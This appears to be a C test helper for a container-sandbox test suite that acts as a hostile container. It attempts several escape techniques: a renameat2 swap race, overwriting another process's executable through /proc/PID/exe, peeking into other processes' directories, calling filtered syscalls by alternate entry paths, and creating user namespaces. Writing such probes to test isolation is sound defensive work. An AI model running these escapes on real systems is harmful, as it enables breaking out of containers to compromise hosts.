/* What a hostile container does, for escapes.test.ts: one subcommand each. Prints what it saw. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Exchanges two names as long as it lives. */
static int swap(const char *a, const char *b) {
  for (unsigned turns = 0;; turns++) {
    if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) { perror("renameat2"); return 1; }
    if (turns == 0) { puts("swapping"); fflush(stdout); }
    if (turns % 64 == 0) usleep(100);
  }
}

static int each_process(int (*look)(int pid, void *with), void *with) {
  DIR *proc = opendir("/proc");
  int found = 0;
  if (!proc) { perror("/proc"); exit(1); }
  for (struct dirent *entry; (entry = readdir(proc));) if (atoi(entry->d_name) > 1 && atoi(entry->d_name) != getpid()) found += look(atoi(entry->d_name), with);
  closedir(proc);
  return found;
}

/* A program that is not of this root: kept by descriptor, and written to once nobody runs it. */
static int overwrite_one(int pid, void *with) {
  char path[64];
  struct stat own, theirs;
  (void)with;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_PATH | O_CLOEXEC);
  if (fd < 0) return 0;
  if (stat("/bin/busybox", &own) < 0 || fstat(fd, &theirs) < 0 || (own.st_ino == theirs.st_ino && own.st_dev == theirs.st_dev)) { close(fd); return 0; }
  if (stat("/attacker", &own) == 0 && own.st_ino == theirs.st_ino) { close(fd); return 0; }
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int turns = 0; turns < 20000; turns++) {
    int out = open(path, O_WRONLY | O_CLOEXEC);
    if (out >= 0) { printf("overwritten: %zd\n", pwrite(out, "#!owned", 7, 0)); return 1; }
    if (errno != ETXTBSY) { printf("seen: %s\n", strerror(errno)); return 1; }
    usleep(100);
  }
  puts("seen: it was busy all the time");
  return 1;
}

/* A file `marker` beside any folder that another process has open, or is in. */
static int peek_one(int pid, void *with) {
  static const char *const ways[] = {"cwd", "root", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8", "fd/9", "fd/10", "fd/11", "fd/12"};
  unsigned *looks = with;
  char path[160];
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    snprintf(path, sizeof path, "/proc/%d/%s/marker", pid, ways[i]);
    ++*looks;
    if (access(path, F_OK) == 0) { printf("reached %s\n", path); return 1; }
  }
  return 0;
}

/* Calls that Docker's profile refuses, with arguments that fail otherwise, by the three ways into the kernel that x86-64 has. */
static long by_int80(long number, long a) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(0L), "d"(0L), "S"(0L), "D"(0L) : "memory", "r8", "r9", "r10", "r11");
  return (int)result;
}
static long by_syscall(long number, long a) {
  long result = syscall(number, a, 0L, 0L, 0L, 0L);
  return result < 0 ? -errno : result;
}
static void calls(void) {
  static const struct { const char *name; long x64, i386; } list[] = {
    {"add_key", SYS_add_key, 286}, {"keyctl", SYS_keyctl, 288}, {"kexec_load", SYS_kexec_load, 283}, {"init_module", SYS_init_module, 128}, {"swapon", SYS_swapon, 87},
    {"userfaultfd", SYS_userfaultfd, 374}, {"mount", SYS_mount, 21}, {"unshare", SYS_unshare, 310}, {"bpf", SYS_bpf, 357}, {"open_by_handle_at", SYS_open_by_handle_at, 342}, {"getpid", SYS_getpid, 20},
  };
  for (size_t i = 0; i < sizeof list / sizeof *list; i++)
    printf("%s %ld %ld %ld\n", list[i].name, by_syscall(list[i].x64, 0), by_int80(list[i].i386, 0), by_syscall(list[i].x64 | 0x40000000, 0));
}

/* Runs a program for which the kernel has one call less: `refuse NUMBER FIRST ERRNO PROGRAM …`; FIRST: only with that first argument, -1: with any. */
static int refuse(char **argv) {
  const unsigned number = (unsigned)atoi(argv[0]), first = (unsigned)strtol(argv[1], NULL, 0), errnum = (unsigned)atoi(argv[2]);
  struct sock_filter code[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)), BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 3),
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])), BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, first, 0, first == ~0u ? 0 : 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | errnum), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof code / sizeof *code, code};
  if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0) { perror("seccomp"); return 1; }
  execv(argv[3], argv + 3);
  perror(argv[3]);
  return 1;
}

/* A program as root of users, mounts and cgroups of its own. */
static int namespaces(char **argv) {
  static const struct { const char *file, *text; } writes[] = {{"setgroups", "deny"}, {"uid_map", "0 0 1"}, {"gid_map", "0 0 1"}};
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) { perror("unshare"); return 1; }
  for (size_t i = 0; i < sizeof writes / sizeof *writes; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/%s", writes[i].file);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, writes[i].text, strlen(writes[i].text)) < 0) perror(path);
    close(fd);
  }
  execvp(argv[0], argv);
  perror(argv[0]);
  return 1;
}

int main(int argc, char **argv) {
  unsigned looks = 0;
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  if (argc == 2 && strcmp(argv[1], "overwrite") == 0) { puts("waiting"); while (!each_process(overwrite_one, NULL)) continue; return 0; }
  if (argc == 3 && strcmp(argv[1], "peek") == 0) { puts("looking"); while (access(argv[2], F_OK) < 0) if (each_process(peek_one, &looks)) return 0; printf("nothing in %s\n", looks ? "many looks" : "no look"); return 0; }
  if (argc == 2 && strcmp(argv[1], "keyring") == 0) return printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0)) < 0;
  if (argc == 2 && strcmp(argv[1], "calls") == 0) { calls(); return 0; }
  if (argc > 5 && strcmp(argv[1], "refuse") == 0) return refuse(argv + 2);
  if (argc > 2 && strcmp(argv[1], "namespaces") == 0) return namespaces(argv + 2);
  fprintf(stderr, "usage: attacker swap A B | overwrite | peek UNTIL | keyring | calls | refuse NUMBER FIRST ERRNO PROGRAM … | namespaces PROGRAM …\n");
  return 2;
}
